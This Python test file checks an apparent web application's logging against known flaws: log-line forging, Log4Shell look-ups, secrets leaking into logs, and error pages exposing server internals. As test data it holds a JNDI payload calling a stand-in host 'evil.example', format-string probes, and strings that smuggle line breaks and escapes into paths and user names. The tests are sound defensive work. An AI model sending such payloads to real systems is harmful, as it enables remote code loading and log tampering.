"""Reports about logs: forged lines, secrets, and texts that a reader of the log evaluates."""

from __future__ import annotations

import logging
from collections.abc import Callable
from typing import Any

import pytest
import webtest

from masthead import Instance, User
from masthead.http.endpoints import secret_paths
from masthead.server.access_log import access_log
from masthead.telemetry.log_formats import JsonFormatter, TextFormatter
from masthead.testing import Client
from masthead.web.app import app_of

PASSWORD = "correct horse battery staple"
FORGED = ["\n", "\r\n", "\r", "\x1b[2J", "\x00", "\x85", "\u2028", "\x7f", "\x9b31m"]


@pytest.fixture(params=[TextFormatter, JsonFormatter])
def logged(
    instance: Instance, caplog: pytest.LogCaptureFixture, request: pytest.FixtureRequest
) -> Callable[..., str]:
    """Return a function that sends a request and returns the lines of the log, in each format."""
    formatter = request.param()
    caplog.set_level(logging.INFO)
    wrapped = webtest.TestApp(
        access_log(app_of(instance), secret_paths(instance.endpoints)),
        extra_environ={"REMOTE_ADDR": "192.0.2.7"},
    )

    def send(path: str, **options: Any) -> str:
        caplog.clear()
        body = options.pop("body", None)
        if body is None:
            wrapped.get(path, status="*", expect_errors=True, **options)
        else:
            wrapped.post_json(path, body, status="*", expect_errors=True, **options)
        return "".join(f"{formatter.format(record)}\n" for record in caplog.records)

    return send


def test_cve_2025_48432_a_request_is_one_line_of_the_log(logged: Callable[..., str]) -> None:
    """CVE-2025-48432 (Django): a path with line ends or escapes forged lines of the log."""
    for text in FORGED:
        path = f"/api/news/a{text}192.0.2.9 root".encode().decode("latin-1")

        written = logged("/", extra_environ={"PATH_INFO": path, "QUERY_STRING": f"a={path}"})

        assert written.removesuffix("\n").isprintable()


def test_cve_2021_44228_a_logged_text_is_not_evaluated(logged: Callable[..., str]) -> None:
    """CVE-2021-44228 (Log4j): texts in a logged request were look-ups, which loaded code."""
    for text in ["${jndi:ldap://evil.example/a}", "%s%n%x", "{0.__class__}", "%(a)s"]:
        headers = {"User-Agent": text, "Referer": text, "X-Api-Version": text}

        written = logged(f"/api/news/{text}", headers=headers)

        assert "GET /api/news/" in written
        assert "evil.example/a}" not in written


def test_cwe_532_no_log_has_a_secret(
    logged: Callable[..., str], make_user: Callable[..., User], app: Client
) -> None:
    """CWE-532: passwords and tokens were in logs, which more people read."""
    ada = make_user("ada")
    token = app.as_user(ada).authorization[1]
    login = {"username": "ada", "password": PASSWORD}

    written = logged("/api/auth/login", body=login)
    written += logged("/api/auth/login", body={**login, "password": PASSWORD + "!"})
    written += logged("/api/auth/check", headers={"Authorization": f"Bearer {token}"})
    written += logged(f"/api/news?token={token}&access_token={token}")
    written += logged(f"/api/newsletter/unsubscribe/1-{'a' * 24}")
    written += logged(
        "/api/auth/reset-password", body={"token": token[:99], "newPassword": "b" * 9}
    )

    for secret in (PASSWORD, token, token[:99], "a" * 24):
        assert secret not in written


def test_cwe_532_an_unknown_name_may_be_a_password(app: Client, admin: Client) -> None:
    """CWE-532: a password, typed into the field of the name, was in the log of failed logins."""
    app.post_json("/api/auth/login", {"username": PASSWORD, "password": "a"}, status=401)

    assert PASSWORD not in admin.get("/api/staff/audit-log").text


def test_cwe_117_a_user_name_is_one_word_of_the_log(
    logged: Callable[..., str], make_user: Callable[..., User], app: Client
) -> None:
    """CWE-117: a user with a line end in the name forged lines of the log."""
    eve = make_user('eve" 200 1\n192.0.2.9 root "GET / ')
    token = app.as_user(eve).authorization[1]

    written = logged("/api/auth/check", headers={"Authorization": f"Bearer {token}"})

    assert written.count("\n") == 1
    assert "192.0.2.9 root" not in written


def test_cwe_209_an_error_shows_no_insides(app: Client) -> None:
    """CWE-209: an error told strangers files, statements and versions of the server."""
    for path, body in (("/api/contact", b"{"), ("/api/auth/login", b"[]"), ("/api/nowhere", b"")):
        text = app.post(path, body, status="4*").text
        assert not any(word in text for word in ("Traceback", ".py", "SELECT", "line 1"))
